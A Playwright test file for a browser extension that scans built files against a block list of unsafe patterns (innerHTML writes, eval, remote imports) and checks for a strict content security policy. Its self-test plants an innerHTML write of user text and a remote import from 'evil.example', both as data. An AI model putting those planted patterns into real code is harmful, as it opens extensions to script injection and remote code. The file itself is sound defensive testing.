// What ships must not build HTML from strings, evaluate strings as code or load remote code,
// and extension pages run under a strict content security policy. Scans every built file.
import { test, expect } from '@playwright/test';
import { existsSync, readdirSync, readFileSync } from 'node:fs';
import path from 'node:path';

const BUILDS = ['chrome', 'firefox', 'chrome-test'] as const;

const BANNED: { name: string; re: RegExp }[] = [
  { name: 'innerHTML assignment', re: /\.innerHTML\s*\+?=(?!=)/g },
  { name: 'outerHTML assignment', re: /\.outerHTML\s*\+?=(?!=)/g },
  { name: 'insertAdjacentHTML', re: /insertAdjacentHTML/g },
  { name: 'document.write', re: /document\.write(?:ln)?\s*\(/g },
  { name: 'eval(', re: /(?<![\w$.])eval\s*\(/g },
  { name: 'new Function', re: /new\s+Function\s*\(/g },
  { name: 'string timer', re: /set(?:Timeout|Interval)\s*\(\s*["'`]/g },
  { name: 'remote <script src>', re: /<script[^>]*\ssrc\s*=\s*["']?(?:https?:)?\/\//gi },
  { name: 'remote import()', re: /import\s*\(\s*["'`](?:https?:)?\/\//g },
  { name: 'remote static import', re: /(?:import|from)\s*["'`](?:https?:)?\/\//g },
  { name: 'importScripts of a URL', re: /importScripts\s*\(\s*["'`](?:https?:)?\/\//g },
];

/**
 * Allowed, with the reason. Preact's DOM diff has exactly two innerHTML writes: one applies the
 * `dangerouslySetInnerHTML` prop (ESLint bans that prop in our source, so the branch never runs
 * with our components) and one clears a node with an empty string before it renders children.
 * Both are matched by their exact minified shape, so any other innerHTML write still fails.
 */
const ALLOWED: { name: string; re: RegExp; why: string }[] = [
  {
    name: 'innerHTML assignment',
    re: /\.innerHTML=[\w$]+\.__html\b/g,
    why: 'Preact: applies dangerouslySetInnerHTML (banned in our source by ESLint)',
  },
  {
    name: 'innerHTML assignment',
    re: /\.innerHTML=(?:``|""|'')/g,
    why: 'Preact: clears a node (constant empty string)',
  },
];

function files(dir: string): string[] {
  return readdirSync(dir, { withFileTypes: true }).flatMap((e) =>
    e.isDirectory() ? files(path.join(dir, e.name)) : [path.join(dir, e.name)],
  );
}

for (const build of BUILDS) {
  const dist = path.resolve('dist', build);

  test(`${build}: no HTML from strings, no eval, no remote code in any built file`, () => {
    expect(existsSync(path.join(dist, 'manifest.json')), `${dist} is not built`).toBe(true);
    const findings: string[] = [];
    const scanned = files(dist).filter((f) => /\.(m?js|html|json|css)$/.test(f));
    expect(scanned.some((f) => f.endsWith('.js'))).toBe(true);
    for (const file of scanned) {
      const text = readFileSync(file, 'utf8');
      for (const { name, re } of BANNED) {
        const allowedAt = new Set(
          ALLOWED.filter((a) => a.name === name).flatMap((a) => [...text.matchAll(a.re)].map((m) => m.index)),
        );
        for (const m of text.matchAll(re)) {
          if (allowedAt.has(m.index)) continue;
          findings.push(
            `${path.relative(dist, file)}: ${name}: …${text.slice(Math.max(0, m.index - 60), m.index + 60)}…`,
          );
        }
      }
    }
    expect(findings).toEqual([]);
  });

  test(`${build}: strict content security policy for extension pages`, () => {
    const manifest = JSON.parse(readFileSync(path.join(dist, 'manifest.json'), 'utf8')) as {
      content_security_policy?: { extension_pages?: string; sandbox?: string };
      host_permissions?: string[];
      sandbox?: unknown;
    };
    const csp = manifest.content_security_policy?.extension_pages ?? '';
    const directives = Object.fromEntries(
      csp
        .split(';')
        .map((d) => d.trim().split(/\s+/))
        .filter((d) => d[0])
        .map(([name, ...values]) => [name, values]),
    ) as Record<string, string[]>;
    expect(directives['script-src']).toEqual(["'self'"]);
    expect(directives['object-src']).toEqual(["'none'"]);
    expect(directives['base-uri']).toEqual(["'none'"]);
    expect(directives['frame-ancestors']).toEqual(["'none'"]);
    expect(csp).not.toMatch(/unsafe-(eval|inline|hashes)|wasm-unsafe-eval|https?:|\*/);
    expect(manifest.sandbox).toBeUndefined();
    // Least privilege: only the e2e variant may reach the loopback fixture pages.
    if (build === 'chrome-test')
      expect(manifest.host_permissions).toEqual(['http://127.0.0.1/*', 'http://localhost/*']);
    else expect(manifest.host_permissions).toBeUndefined();
  });
}

test('the allowlist is exact: a planted innerHTML write or remote import would be caught', () => {
  const planted = 'el.innerHTML=userText;import("https://evil.example/x.js");el.innerHTML=f.__html;';
  const hits = BANNED.flatMap(({ name, re }) => [...planted.matchAll(re)].map((m) => ({ name, index: m.index })));
  const allowed = new Set(ALLOWED.flatMap((a) => [...planted.matchAll(a.re)].map((m) => m.index)));
  expect(hits.filter((h) => !allowed.has(h.index)).map((h) => h.name)).toEqual([
    'innerHTML assignment',
    'remote import()',
  ]);
});
